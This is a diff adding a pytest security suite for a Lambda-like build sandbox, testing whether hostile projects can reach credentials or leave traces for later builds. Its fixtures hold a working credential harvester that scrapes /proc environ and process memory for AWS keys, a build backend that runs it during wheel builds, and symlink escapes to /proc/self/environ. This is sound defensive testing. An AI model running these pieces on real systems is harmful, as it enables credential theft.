@@ -1,0 +1,198 @@
+"""What a hostile project can and cannot reach, tried by one, in the sandbox that is shaped like Lambda."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+
+from tests.embedded import Builder, FunctionFailed, small_zip
+
+pytestmark = pytest.mark.embedded
+
+TOKEN = "canary-git-token-0123456789"
+
+THIEF = '''
+"""Look for credentials wherever a process of this user can look; append what is found to a file."""
+import glob, os, re, sys
+
+INTERESTING = re.compile(rb"(?:ASIA|AWS_SECRET_ACCESS_KEY|AWS_SESSION_TOKEN|canary)[^\\0\\n]{0,300}")
+loot = [repr(dict(os.environ)).encode()]
+
+def read(path, size=-1):
+    try:
+        with open(path, "rb") as file:
+            return file.read(size)
+    except OSError as error:
+        return b""
+
+for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
+    loot.append(read(path))
+for pid in (name for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()):
+    for line in read(f"/proc/{pid}/maps").decode(errors="replace").splitlines():
+        start, end = (int(part, 16) for part in line.split()[0].split("-"))
+        if line.split()[1].startswith("rw"):
+            try:
+                with open(f"/proc/{pid}/mem", "rb", 0) as memory:
+                    memory.seek(start)
+                    loot += INTERESTING.findall(memory.read(end - start))
+            except (OSError, OverflowError, ValueError):
+                pass
+for root in ("/tmp", "/var/task"):
+    for directory, _, names in os.walk(root):
+        for name in names:
+            if os.path.join(directory, name) != os.path.abspath(__file__):
+                loot += INTERESTING.findall(read(os.path.join(directory, name), 5_000_000))
+with open(sys.argv[1], "ab") as file:
+    file.write(b"\\n".join(loot))
+'''
+
+VICTIM = """
+import subprocess, sys
+
+def lambda_handler(event, context):
+    subprocess.run([sys.executable, "thief.py", "/tmp/loot"], env={}, check=True)
+    return open("/tmp/loot", errors="replace").read()
+"""
+
+
+def test_the_thief_is_good_at_it(builder: Builder) -> None:
+    """A function that takes no care loses its credentials to a child with an empty environment."""
+    name = f"victim-{builder.name}"
+    code = small_zip({"lambda_function.py": VICTIM, "thief.py": THIEF})
+    builder.create_function(name, code=code)
+    loot = builder.invoke(name, {})
+    assert any(secret in loot for secret in builder.aws.secrets)
+
+
+def test_a_thief_in_the_project_finds_no_credentials(builder: Builder) -> None:
+    builder.aws.client("secretsmanager").create_secret(Name=f"git-token-{builder.name}", SecretString=TOKEN)
+    with_token = builder.install(
+        name=f"{builder.name}-token", variables={"YO_DAWG_TOKEN_SECRET": f"git-token-{builder.name}"}
+    )
+    builder.invoke(with_token, {"action": "bootstrap"})
+    # Its make_dist.sh looks, and so does the build of a source distribution among its requirements.
+    builder.add_project(
+        "thief",
+        {
+            "lambda_function.py": "def lambda_handler(event, context):\n    return 'ok'\n",
+            "thief.py": THIEF,
+            "make_dist.sh": 'set -e\ncp lambda_function.py "$1"\ncp -r . "$1/project"\n'
+            '"$PYTHON" thief.py "$1/loot"\ncat "$1/loot"\n',
+            "requirements.txt": "./lib\n",
+            "lib/pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
+            "lib/thief.py": THIEF,
+            "lib/backend.py": BACKEND,
+        },
+    )
+    result = builder.build("thief", builder=with_token)
+
+    package = builder.aws.client("s3").get_object(
+        Bucket=result["package"]["s3_uri"].split("/")[2], Key=result["package"]["s3_uri"].split("/", 3)[3]
+    )
+    from io import BytesIO
+    from zipfile import ZipFile
+
+    archive = ZipFile(BytesIO(package["Body"].read()))
+    shipped = {name: archive.read(name) for name in archive.namelist()}
+    assert b"'PATH'" in shipped["loot"], "make_dist.sh's thief did run"
+    assert b"'PATH'" in shipped["lib_loot"], "the source distribution's thief did run"
+    everything = {
+        **{f"package: {name}": content for name, content in shipped.items()},
+        **builder.stored(f"{with_token}/builds/"),
+        "result": json.dumps(result).encode(),
+        "log": builder.logs(with_token).encode(),
+    }
+    for place, content in everything.items():
+        for secret in (*builder.aws.secrets, TOKEN):
+            assert secret.encode() not in content, place
+
+
+BACKEND = '''
+"""A build backend that steals, then makes a wheel."""
+import os, runpy, sys, zipfile
+
+def build_wheel(directory, config_settings=None, metadata_directory=None):
+    sys.argv = ["thief.py", os.path.abspath("lib_loot")]
+    runpy.run_path("thief.py")
+    name = "lib-1.0-py3-none-any.whl"
+    with zipfile.ZipFile(os.path.join(directory, name), "w") as wheel:
+        wheel.write("lib_loot", "lib_loot")
+        wheel.writestr("lib-1.0.dist-info/METADATA", "Metadata-Version: 2.1\\nName: lib\\nVersion: 1.0\\n")
+        wheel.writestr("lib-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
+        wheel.writestr("lib-1.0.dist-info/RECORD", "lib_loot,,\\nlib-1.0.dist-info/METADATA,,\\n"
+                       "lib-1.0.dist-info/WHEEL,,\\nlib-1.0.dist-info/RECORD,,\\n")
+    return name
+'''
+
+
+@pytest.mark.parametrize(
+    "link",
+    [
+        pytest.param('ln -s /proc/self/environ "$1/loot"', id="to /proc"),
+        pytest.param('ln -s /var/task/lambda_function.py "$1/loot"', id="to the builder's code"),
+        pytest.param('ln -s ../toolchain "$1/loot"', id="to the toolchain"),
+        pytest.param('mkdir "$1/a" && ln -s .. "$1/a/b" && ln -s a/b/../clone.json "$1/loot"', id="through a link"),
+    ],
+)
+def test_a_link_out_of_the_package_is_refused(builder: Builder, link: str) -> None:
+    builder.add_project("linker", {"lambda_function.py": HANDLER, "make_dist.sh": f'cp *.py "$1"\n{link}\n'})
+    before = builder.functions.get_function_configuration(FunctionName="linker")["CodeSha256"]
+    with pytest.raises(FunctionFailed) as failed:
+        builder.build("linker")
+    assert failed.value.type == "PackageError"
+    assert "outside of the package" in failed.value.message
+    assert builder.functions.get_function_configuration(FunctionName="linker")["CodeSha256"] == before
+
+
+HANDLER = "def lambda_handler(event, context):\n    return 'ok'\n"
+
+LEAVE_TRACES = """
+cp *.py "$1"
+touch /tmp/trace "$HOME/trace" "$TMPDIR/trace"
+mkdir -p /tmp/locked/deep && chmod 000 /tmp/locked
+(setsid sleep 10001 &) ; setsid setsid sleep 10002 & sleep 10003 &
+"""
+
+LOOK_FOR_TRACES = """
+cp *.py "$1"
+find_them() { for each in /proc/[0-9]*/cmdline; do tr '\\0' ' ' < "$each" 2> /dev/null; done; }
+{ find_them | grep -o 'sleep 1000[0-9]' || true; ls -A /tmp; ls -A "$HOME" "$TMPDIR"; } > "$1/seen.txt"
+"""
+
+
+def test_a_build_leaves_nothing_to_the_next(builder: Builder) -> None:
+    builder.add_project("littering", {"lambda_function.py": HANDLER, "make_dist.sh": LEAVE_TRACES})
+    builder.add_project("looking", {"lambda_function.py": HANDLER, "make_dist.sh": LOOK_FOR_TRACES})
+    builder.build("littering")
+    builder.build("looking")
+    seen = builder.package("looking").read("seen.txt").decode()
+    assert "sleep" not in seen
+    assert "trace" not in seen
+    assert "locked" not in seen
+    assert seen.split()[0] == "yo-dawg", "the listing of /tmp did work, and shows the workspace alone"
+
+
+def test_what_outlasts_the_invocation_is_ended_in_time_and_leaves_nothing(builder: Builder) -> None:
+    name = builder.install(name=f"{builder.name}-short", Timeout=20)
+    builder.invoke(name, {"action": "bootstrap"})
+    builder.add_project(
+        "sleeper", {"lambda_function.py": HANDLER, "make_dist.sh": f"{LEAVE_TRACES}\necho going to bed\nsleep 10000\n"}
+    )
+    builder.add_project("looking", {"lambda_function.py": HANDLER, "make_dist.sh": LOOK_FOR_TRACES})
+    with pytest.raises(FunctionFailed) as failed:
+        builder.build("sleeper", builder=name)
+    assert failed.value.type == "DeadlineError", failed.value
+    assert "[4/7] stage the project" in failed.value.message
+    environment = builder.aws.environments(name)
+    builder.build("looking", builder=name)
+    assert [each.pid for each in builder.aws.environments(name)] == [each.pid for each in environment], "a warm start"
+    result = builder.build("looking", builder=name, dry_run=True)
+    assert result["status"] == "built"
+
+
+def test_nothing_of_the_builder_is_in_a_package(builder: Builder, tmp_path: Path) -> None:
+    builder.add_project("plain", {"lambda_function.py": HANDLER, "data/a.txt": "a"})
+    builder.build("plain")
+    assert builder.package("plain").namelist() == ["data/a.txt", "lambda_function.py"]
